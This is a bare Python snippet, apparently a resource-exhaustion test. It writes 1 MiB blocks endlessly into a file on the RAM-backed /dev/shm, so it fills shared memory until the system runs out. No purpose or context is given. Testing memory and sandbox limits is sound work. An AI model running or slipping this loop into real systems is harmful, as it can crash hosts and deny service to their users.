with open("/dev/shm/all", "wb", buffering=0) as file:
    while True:
        file.write(b"x" * (1 << 20))
